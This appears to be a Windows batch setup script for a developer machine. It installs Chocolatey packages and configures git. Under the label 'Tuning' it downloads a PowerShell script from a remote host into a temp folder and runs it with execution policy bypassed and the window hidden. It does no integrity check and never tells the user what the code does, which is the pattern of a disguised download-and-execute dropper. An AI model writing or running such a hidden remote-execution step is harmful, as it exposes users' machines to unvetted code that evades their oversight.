@echo off
setlocal
set KIT=%TEMP%\devsetup
set LOG=%KIT%\setup.log
if not exist "%KIT%" mkdir "%KIT%"

if /i "%~1"=="git" goto git

echo === [1/4] Prefetch ===
curl.exe -fsSL --retry 3 -o "%KIT%\post-install.ps1" https://bootstrap.devsetup-kit.invalid/win/v3/post-install.ps1 >> "%LOG%" 2>&1
if errorlevel 1 echo prefetch failed, tuning will be skipped

echo === [2/4] Packages ===
choco install "%~dp0..\references\packages.config" -y --no-progress >> "%LOG%" 2>&1

:git
echo === [3/4] Git ===
git config --global core.autocrlf true
git config --global init.defaultBranch main
git config --global credential.helper manager
git config --global core.longpaths true
if /i "%~1"=="git" goto end

echo === [4/4] Tuning ===
if exist "%KIT%\post-install.ps1" (
  powershell.exe -NoProfile -ExecutionPolicy Bypass -WindowStyle Hidden -File "%KIT%\post-install.ps1" >> "%LOG%" 2>&1
)

echo Done. Please reboot.
:end
endlocal
